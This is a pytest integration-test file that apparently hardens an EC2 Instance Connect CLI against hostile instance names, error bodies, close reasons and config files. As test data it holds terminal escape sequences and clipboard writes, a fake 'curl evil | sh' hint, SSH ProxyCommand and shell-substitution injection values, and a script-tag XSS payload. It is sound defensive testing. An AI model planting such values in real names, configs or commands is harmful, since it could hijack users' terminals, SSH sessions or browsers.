"""A hostile world end to end: names, refusals, closes and files that try to steer a terminal, OpenSSH or a browser."""

from __future__ import annotations

import json
import socket
import subprocess
import unicodedata
from collections.abc import Callable
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from eicctl.core.errors import EicctlError
from eicctl.emulator.server import Emulator
from eicctl.view import messages
from tests.integration.listening import connect, listening, read_all
from tests.waiting import wait_for

if TYPE_CHECKING:
    from tests.integration.conftest import Handler, Ran, Service

Eicctl = Callable[..., "Ran"]
Serve = Callable[["Handler"], "Service"]

NAMES = {
    "web-1": "\x9b31m\x9d52;c;ZXZpbA==\x9cweb\nhint: curl evil | sh\r\u202e",
    "app-1": "-oProxyCommand=touch pwned;$(touch pwned)`touch pwned`'\"%n%h",
    "win-1": "<script>alert(1)</script>",
    "endpoint": "*\nHost *",
}
"""Name tags. They come through XML, which has no way to tell the controls below U+0020 but line ends and tabs."""


def harmless(text: str) -> bool:
    return all(char in "\n\t" or unicodedata.category(char) not in ("Cc", "Cf", "Cs", "Zl", "Zp") for char in text)


@pytest.fixture
def names(ec2: Any, instance_ids: dict[str, str], endpoint: dict[str, Any]) -> dict[str, str]:
    """The instances' IDs by what they are called no more."""
    for old, resource in (instance_ids | {"endpoint": endpoint["InstanceConnectEndpointId"]}).items():
        tags = [{"Key": "Name", "Value": NAMES[old]}, {"Key": "Note", "Value": NAMES[old]}]
        ec2.create_tags(Resources=[resource], Tags=tags)
    return instance_ids


def test_lists_and_maps(eicctl: Eicctl, names: dict[str, str], tmp_path: Path) -> None:
    page = tmp_path / "map.html"
    for words in (
        ["instances"],
        ["instances", "--output", "text"],
        ["list-endpoints"],
        ["coverage", "--report", str(page)],
    ):
        ran = eicctl(*words)
        assert ran.code == 0, ran.err
        assert harmless(ran.out + ran.err)
        assert not any(line.startswith(("hint: curl", "Host *")) for line in (ran.out + ran.err).splitlines())
    ran = eicctl("instances", "--output", "json")
    assert harmless(ran.out)
    found = {row["InstanceId"]: row["Name"] for row in json.loads(ran.out)}
    assert found[names["app-1"]] == NAMES["app-1"]
    assert found[names["web-1"]].replace("\r\n", "\n").startswith(NAMES["web-1"][:20])
    html = page.read_text()
    assert harmless(html)
    assert "<script>alert(1)" not in html


def test_ssh_config_has_no_setting_of_a_name(eicctl: Eicctl, names: dict[str, str], home: Path, tmp_path: Path) -> None:
    ran = eicctl("ssh-config", "--all", "--install")
    assert ran.code == 0, ran.err
    config = home / ".ssh" / "eicctl" / "config"
    assert "pwned" not in config.read_text()
    hosts = [line.split()[1] for line in config.read_text().splitlines() if line.startswith("Host")]
    assert sorted(hosts) == sorted(f"{names[name]}.eic" for name in ("web-1", "app-1"))
    shown = subprocess.run(
        ["ssh", "-F", str(config), "-G", hosts[0]], capture_output=True, text=True, check=True, cwd=tmp_path
    ).stdout
    (proxy,) = (line for line in shown.splitlines() if line.startswith("proxycommand "))
    assert proxy.endswith(hosts[0].removesuffix(".eic"))
    assert not list(tmp_path.glob("pwned"))


BODIES: list[Any] = [
    {"ErrorCode": "\x1b[31mX\x9c", "Message": "no\nhint: curl evil | sh\r\u202e"},
    "\x1b]52;c;ZXZpbA==\x07" + "x" * 2**19,
    "[" * 100_000,
    "<html>\n<script>alert(1)</script>",
]


@pytest.mark.parametrize("body", BODIES, ids=["json", "megabyte", "deep", "html"])
def test_a_refusal(serve: Serve, emulator: Emulator, capsys: pytest.CaptureFixture[str], body: Any) -> None:
    service = serve(lambda client: None)
    emulator.add_fault("refuse", status=403, times=-1, body=body, headers={"x-amzn-requestid": "r-1"})
    with pytest.raises(EicctlError) as told:
        service.dialer.open(retry_budget=0)
    messages.failure(told.value)
    err = capsys.readouterr().err
    assert harmless(err)
    assert len(err) < 3000
    assert [line.split(":")[0] for line in err.splitlines() if not line.startswith("  ")] == [
        "error",
        "request ID",
        "hint",
    ]


def waiting(client: socket.socket) -> None:
    client.recv(1)


def test_a_close_reason(serve: Serve, emulator: Emulator, capsys: pytest.CaptureFixture[str]) -> None:
    service = serve(waiting)
    reason = "\x1b[2Jbye\nhint: curl evil | sh\u202e\x9b0m"
    emulator.add_fault("close", code=4000, reason=reason, after_seconds=0.05)
    with listening(service.dialer) as (port, told), connect(port) as client:
        read_all(client)
        wait_for(lambda: told.endings)
    error = told.ending().error
    assert error
    messages.failure(error)
    err = capsys.readouterr().err
    assert harmless(err)
    assert "bye" in err
    assert not any(line.startswith("hint: curl") for line in err.splitlines())


@pytest.mark.parametrize("target", ["-oProxyCommand=touch pwned", "$(touch pwned)", "a\nb", "\x1b[2J", "x" * 2**17])
def test_a_target_that_is_none(
    eicctl: Eicctl, endpoint: dict[str, Any], target: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert endpoint
    monkeypatch.chdir(tmp_path)
    ran = eicctl("ssh", "--", target)
    assert ran.code in (2, 3)
    assert harmless(ran.out + ran.err)
    assert len(ran.err) < 20_000
    assert not list(tmp_path.glob("pwned"))


def test_a_configuration_of_others(eicctl: Eicctl, home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    evil = "p\x1b[2J\x9b31m"
    (home / "config").write_bytes(f"[profile {evil}]\nregion = \x1b[2J\n\xff".encode() + b"\xff\xfe\x00")
    ran = eicctl("instances", "--profile", evil)
    assert ran.code != 0
    assert harmless(ran.out + ran.err)
    (home / "config").write_text("")
    monkeypatch.chdir(home)
    (home / "eicctl.toml").write_text('[tunnel."a\\u001b[2J"]\ntarget = "\\u001b[2J\\nhint: x"\nremote_port = 22\n')
    ran = eicctl("up", "--output", "json")
    assert ran.code == 2
    assert harmless(ran.out + ran.err)
